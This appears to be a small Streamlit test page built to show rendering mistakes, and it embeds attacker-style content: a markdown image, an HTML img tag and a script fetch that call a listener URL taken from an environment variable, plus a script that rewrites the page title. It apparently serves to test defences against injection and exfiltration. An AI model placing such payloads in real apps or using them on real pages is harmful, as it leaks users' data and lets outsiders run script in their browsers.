"""A page with every mistake we mean never to make: text of others drawn as markup and as script."""

import os

import streamlit as st

LISTENER = os.environ["LEAK_TO"]

st.markdown(f"![een foto]({LISTENER}/markdown.svg?said=Marjan)")
st.html(f"<img src='{LISTENER}/html.svg?said=Marjan'>")
st.html(
    f"<script>fetch('{LISTENER}/script?said=Marjan', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    unsafe_allow_javascript=True,
)
st.html(
    "<script>document.title = 'taken over'</script>",
    unsafe_allow_javascript=True,
)
st.text("drawn")
